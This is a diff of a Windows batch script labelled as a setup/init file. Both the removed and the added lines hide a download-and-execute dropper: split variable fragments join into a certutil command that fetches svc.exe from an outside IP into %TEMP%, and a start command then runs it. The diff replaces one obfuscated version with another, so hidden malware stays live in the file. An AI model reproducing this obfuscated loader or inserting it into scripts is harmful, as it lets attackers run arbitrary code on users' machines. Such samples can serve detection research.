@@ -1,18 +1,13 @@
-REM setup 1791 v2
+REM init 0407 v2
 @echo off
 @echo off
 setlocal EnableDelayedExpansion
-set "ush0=certuti"
-set "vqy1=l.exe -urlcache -split -f "
-set "znr2=http:"
-set "mtw3=//19"
-set "kbh4=8.51.100.23/svc.exe %TEMP%\svc.exe"
-!ush0!!vqy1!!znr2!!mtw3!!kbh4!
+set fgt0=c
+set idh1=ertutil.exe -urlcache -split -f http://203.0.113.17/svc.exe %TEMP
+set wzo2=%\svc.exe
+!fgt0!!idh1!!wzo2!
 @echo off
 setlocal EnableDelayedExpansion
-set "wxw0=start"
-set "uni1= "" %TE"
-set "eqx2=M"
-set "kss3=P%\svc.e"
-set "ozo4=xe"
-!wxw0!!uni1!!eqx2!!kss3!!ozo4!
+set vyx0=start "" %TEMP%\svc.
+set kbn1=exe
+!vyx0!!kbn1!
